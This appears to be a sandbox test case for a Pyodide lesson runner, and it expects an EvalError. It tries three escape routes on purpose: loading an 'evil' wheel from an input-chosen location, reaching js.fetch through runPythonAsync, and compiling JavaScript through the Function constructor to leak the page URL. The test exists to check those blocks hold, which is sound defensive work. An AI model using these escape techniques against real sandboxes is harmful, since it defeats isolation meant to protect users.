# A lesson that tries to escape through `pyodide_js`, the interpreter's JavaScript API: to
# load code from elsewhere, or to compile JavaScript from a string. The page's CSP has no
# 'unsafe-eval', so no string becomes code; loading packages finds nothing to load.
# expect-outcome: raised
# expect-message: EvalError.*unsafe-eval
import pyodide_js

try:
    pyodide_js.loadPackage(input().strip() + "/evil-0.1-py3-none-any.whl")
    print("loadPackage was asked (it can only fetch from the app's own origin)")
except Exception as error:
    print("blocked: loadPackage:", type(error).__name__)

try:
    pyodide_js.runPythonAsync("import js; js.fetch")
except Exception as error:
    print("blocked: runPythonAsync:", type(error).__name__)

make_function = pyodide_js.runPython.constructor
print("LEAKED", make_function("return self.location.href")())
